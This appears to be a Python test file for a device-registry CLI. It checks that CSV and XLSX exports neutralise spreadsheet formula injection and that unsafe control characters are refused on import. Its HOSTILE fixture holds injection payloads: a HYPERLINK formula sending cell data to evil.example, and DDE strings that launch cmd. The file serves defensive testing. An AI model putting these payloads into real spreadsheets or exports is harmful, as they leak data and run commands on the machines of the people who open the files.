"""CSV safe both ways: exported cells never start a spreadsheet formula, hostile values re-import unchanged,
and control or separator characters are refused on every way in (so export → import always round-trips)."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from cli.app import app
from core.spreadsheet import neutralise, unneutralise
from provisioning.csvio import write_csv
from provisioning.registry import Registry
from provisioning.sheet import parse_csv_text
from provisioning.validate import InvalidDevice, check_device
from report.export import write_csv as write_report_csv
from report.export import write_xlsx as write_report_xlsx
from report.figures import Figures

runner = CliRunner()
HOSTILE = {
    "address": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "street": "+cmd|' /C calc'!A0",
    "site": "@SUM(1+1)*cmd|' /C calc'!A0",
    "district": "-2+3+cmd|' /C calc'!A0",
}


def dev(tmp: Path, *args: str) -> object:
    return runner.invoke(app, ["device", *args, "--registry", str(tmp / "r.sqlite")])


def test_export_of_hostile_values_opens_as_text_and_reimports_unchanged(tmp_path: Path, database: str) -> None:
    raw = {"id": "-1-1", "key": "24e1247100000301", "model": "milesight-em500-udl", "latitude": 39.9,
           "longitude": 116.4, "mount_height_mm": 2000, **HOSTILE}
    device = check_device(raw)
    with Registry(database) as reg:  # the hostile text stored and read back by SQLite, then PostgreSQL
        reg.add(device)
    for mode in ([], ["--excel"]):  # --excel: the file meant for Excel (UTF-8 with byte-order mark)
        out = tmp_path / f"out{len(mode)}.csv"
        r = runner.invoke(app, ["device", "export", "-o", str(out), *mode, "--registry", database])
        assert r.exit_code == 0, r.output
        assert out.read_bytes().startswith(b"\xef\xbb\xbf") == bool(mode)
        with out.open(encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'" + HOSTILE["address"] in cells and "'" + HOSTILE["district"] in cells and "'-1-1" in cells
        back_path = tmp_path / f"back{len(mode)}.sqlite"
        r = runner.invoke(app, ["device", "import", str(out), "--registry", str(back_path)])
        assert r.exit_code == 0, r.output
        with Registry(back_path) as back:
            assert back.get("-1-1") == device


def test_report_csv_and_xlsx_hold_a_hostile_district_as_text(tmp_path: Path) -> None:
    import openpyxl

    figures = [Figures(district=HOSTILE["address"], kind="water_level", devices=1, expected_reports=2.0, reports=1),
               Figures(district=HOSTILE["district"], kind="water_level")]
    write_report_xlsx(tmp_path / "r.xlsx", figures, "urbansense 2026-12-01 → 2026-12-02")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    for r, f in ((3, figures[0]), (4, figures[1])):
        cell = sheet.cell(row=r, column=1)
        assert (cell.data_type, cell.value) == ("s", "'" + f.district)
    assert sheet.cell(row=3, column=6).value == 0.5  # numbers stay numbers
    write_report_csv(tmp_path / "r.csv", figures)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == ["'" + f.district for f in figures]
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows


def test_a_leading_tab_is_refused_not_stripped_into_a_formula(tmp_path: Path) -> None:
    """A tab neutralises a formula in some tools; dropping it would turn "\t=1" into "=1"."""
    bad = tmp_path / "tab.csv"
    bad.write_text('id,key,model,mount_height_mm,street\r\nWL-4,24e1247100000305,milesight-em500-udl,2000,"\t=1"\r\n',
                   encoding="utf-8")
    r = dev(tmp_path, "import", str(bad))
    assert r.exit_code != 0 and "line 2" in r.output and "U+0009" in r.output, r.output
    r = dev(tmp_path, "add", "WL-5", "--deveui", "24e1247100000306", "--model", "milesight-em500-udl",
            "--mount-height-mm", "2000", "--street", "\t=1")
    assert r.exit_code != 0 and "U+0009" in r.output, r.output
    with Registry(tmp_path / "r.sqlite") as reg:
        assert reg.count() == 0


def test_a_line_separator_is_refused_by_device_add_and_by_import(tmp_path: Path) -> None:
    r = dev(tmp_path, "add", "WL-1", "--deveui", "24e1247100000302", "--model", "milesight-em500-udl",
            "--mount-height-mm", "2000", "--address", "建国路\u20281 号")
    assert r.exit_code != 0 and "U+2028 LINE SEPARATOR" in r.output, r.output
    bad = tmp_path / "bad.csv"
    bad.write_text("id,key,model,mount_height_mm,address\r\n"
                   "WL-2,24e1247100000303,milesight-em500-udl,2000,\"建国路\u20282 号\"\r\n"
                   "WL-3,24e1247100000304,milesight-em500-udl,2000,\"a\u202eevil\"\r\n", encoding="utf-8")
    r = dev(tmp_path, "import", str(bad))
    assert r.exit_code != 0 and "line 2" in r.output and "U+2028" in r.output, r.output
    assert "line 3" in r.output and "U+202E" in r.output
    with Registry(tmp_path / "r.sqlite") as reg:
        assert reg.count() == 0


_TEXT = st.text(st.characters(codec="utf-8"), max_size=40)


@given(address=_TEXT, site=_TEXT)
def test_any_accepted_value_round_trips_through_export_and_import(address: str, site: str) -> None:
    try:
        device = check_device({"id": "WL-9", "key": "24e1247100000309", "model": "milesight-em500-udl",
                               "mount_height_mm": 2000, "address": address, "site": site})
    except InvalidDevice:
        return  # refused on the way in: never in a registry, never exported
    buf = StringIO(newline="")
    write_csv([device], buf)
    (row,) = parse_csv_text(buf.getvalue()).rows
    assert check_device(row.values) == device


def test_neutralise_is_reversible() -> None:
    for cell in ("=1", "'=1", "''=1", "abc", "'abc", "-", "@x", "＝x", "", "'"):
        assert unneutralise(neutralise(cell)) == cell
        assert not neutralise(cell)[:1] or neutralise(cell)[0] not in "=+-@"

